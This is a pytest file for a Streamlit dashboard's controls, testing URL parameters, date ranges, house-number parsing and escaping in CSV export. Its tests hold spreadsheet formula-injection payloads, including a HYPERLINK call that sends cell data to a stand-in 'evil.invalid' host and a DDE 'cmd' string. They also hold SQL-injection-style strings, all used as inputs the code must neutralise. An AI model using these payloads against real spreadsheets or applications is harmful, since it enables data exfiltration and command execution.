"""A user's choices: their initial values, which are kept, and their form in the URL. Each test runs a small app of its own."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from dashboard.controls import house_number, is_today, to_csv
from tests.dashboard.results import FRI, MON, SAT, SUN
from tests.waiting import STILL_S


def number():
    import streamlit as st

    from dashboard.controls import keep, start

    most = st.number_input("most", 0, 9, 9, key="most")
    start("n", int, lambda n: 0 <= n <= most, 5)
    keep("n", st.number_input("n", 0, 9, key="n"))


def text():
    import streamlit as st

    from dashboard.controls import keep, start

    start("word", str, lambda word: len(word) < 5, "")
    keep("word", st.text_input("word", key="word"))


def days():
    from datetime import date

    import streamlit as st

    from dashboard.controls import pick_days

    st.text(" to ".join(map(str, pick_days(date(2026, 10, 23), date(2026, 10, 26), most=2))))


def app(script, **query) -> AppTest:
    test = AppTest.from_function(script, default_timeout=STILL_S)
    test.query_params.update(query)
    test.run()
    assert not test.exception
    return test


@pytest.mark.parametrize("url, value", [("7", 7), ("0", 0), ("9", 9), (" 7 ", 7), ("+7", 7), ("007", 7), ("٧", 7)])
def test_the_value_of_the_url_wins_and_is_put_right(url, value):
    test = app(number, n=url)
    assert test.number_input(key="n").value == value
    assert test.query_params == {"n": str(value)}


@pytest.mark.parametrize("url", ["", "x", "10", "-1", "5.0", "1e0", "0x5", "9" * 5000, "5; DROP TABLE houses", "\0", "5\0"])
def test_a_value_that_does_not_fit_falls_to_the_default(url):
    test = app(number, n=url)
    assert test.number_input(key="n").value == 5
    assert test.query_params == {"n": "5"}


def test_without_a_value_the_default_is_picked_and_written():
    test = app(number, other="1")
    assert test.number_input(key="n").value == 5
    assert test.query_params == {"n": "5", "other": "1"}


def test_the_last_of_a_repeated_parameter_counts():
    assert app(number, n=["3", "4"]).number_input(key="n").value == 4


def test_what_the_user_picks_is_written_and_wins_over_the_url():
    test = app(number, n="7")
    test.number_input(key="n").set_value(3).run()
    assert (test.number_input(key="n").value, test.query_params) == (3, {"n": "3"})


def test_what_no_longer_fits_falls_to_the_default():
    test = app(number, n="7")
    test.number_input(key="most").set_value(6).run()
    assert (test.number_input(key="n").value, test.query_params) == (5, {"n": "5"})


def test_an_empty_text_is_left_out_of_the_url():
    test = app(text, word="abc")
    assert (test.text_input(key="word").value, test.query_params) == ("abc", {"word": "abc"})
    test.text_input(key="word").set_value("").run()
    assert test.query_params == {}
    assert app(text, word="abcde").query_params == {}


@pytest.mark.parametrize(
    "query, picked",
    [
        ({}, (SUN, MON)),  # the newest two
        ({"from": "2026-10-23"}, (FRI, MON)),
        ({"from": "2026-10-23", "to": "2026-10-24"}, (FRI, SAT)),
        ({"from": "20261024", "to": "2026-W43-6"}, (SAT, SAT)),
        ({"from": "2026-10-26", "to": "2026-10-23"}, (MON, MON)),  # the last is not before the first
        ({"from": "2026-10-22", "to": "2026-10-27"}, (SUN, MON)),  # there are no results
        ({"from": "0001-01-01", "to": "9999-12-31"}, (SUN, MON)),
        ({"from": "2026-02-30", "to": "tomorrow"}, (SUN, MON)),
        ({"from": "2026-10-24T00:00", "to": "../2026-10-24"}, (SUN, MON)),
    ],
)
def test_days(query, picked):
    test = app(days, **query)
    first, last = map(str, picked)
    assert [element.value for element in test.text] == [f"{first} to {last}"]
    assert test.query_params == {"from": first, "to": last}


def test_a_day_that_is_picked_is_written_and_one_that_is_cleared_comes_back():
    test = app(days)
    for picked, expected in ((date(2026, 10, 24), "2026-10-24"), (None, "2026-10-24")):
        test.date_input(key="from").set_value(picked).run()
        assert [element.value for element in test.text] == [f"{expected} to 2026-10-26"]
        assert test.query_params == {"from": expected, "to": "2026-10-26"}


# What is saved as CSV


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.invalid/"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1",
        "＋1",
        "－1",
        "＠a",
    ],
)
def test_a_text_that_looks_like_a_formula_is_saved_as_text(text):
    table = pd.DataFrame({text: [text, "plain"], "label": pd.Categorical([text, "x;=1"]), "any": [(text,), -1], "watts": [-1.5, 2]})
    saved = list(csv.reader(io.StringIO(to_csv(table), newline="")))
    assert saved == [["'" + text, "label", "any", "watts"], ["'" + text, "'" + text, str((text,)), "-1.5"], ["plain", "x;=1", "-1", "2.0"]]
    assert '"x;=1"' in to_csv(table)  # quoted, so that no other separator makes a cell of its second half


def test_numbers_and_times_are_saved_as_they_are():
    table = pd.DataFrame({"kwh": [-0.1, None], "n": [1, -2], "at": [pd.Timestamp("2026-10-25 01:30", tz="UTC")] * 2, "open": [True, False]})
    assert to_csv(table) == ('"kwh","n","at","open"\n-0.1,1,"2026-10-25 01:30:00+00:00",True\n"",-2,"2026-10-25 01:30:00+00:00",False\n')


def test_an_answer_without_columns_and_one_with_the_same_name_twice():
    assert to_csv(pd.DataFrame()) == ""
    assert to_csv(pd.DataFrame([["=1", 2]], columns=["a", "a"])) == '"a","a"\n"\'=1",2\n'


@pytest.mark.parametrize(
    "now, zones, days",
    [
        ("2026-11-28T00:10", ["America/New_York"], {27}),
        ("2026-11-28T04:59", ["America/New_York"], {27}),
        ("2026-11-28T05:00", ["America/New_York"], {28}),
        ("2026-11-28T12:00", ["America/New_York", "Pacific/Kiritimati"], {28, 29}),
        ("2026-11-28T12:00", ["no zone"], {28}),
        ("2026-11-28T12:00", [], set()),
    ],
)
def test_today_is_the_day_at_the_houses(now, zones, days):
    moment = datetime.fromisoformat(now).replace(tzinfo=UTC)
    assert {day for day in range(26, 31) if is_today(date(2026, 11, day), zones, moment)} == days


@pytest.mark.parametrize(
    "text, house_id",
    [
        ("12", 12),
        (" house 12 ", 12),
        ("House 12 · Springfield IL 62701", 12),
        ("", None),
        ("-1", None),
        ("1; DROP", None),
        ("9" * 19, None),
    ],
)
def test_the_number_of_a_house_in_a_text(text, house_id):
    assert house_number(text) == house_id
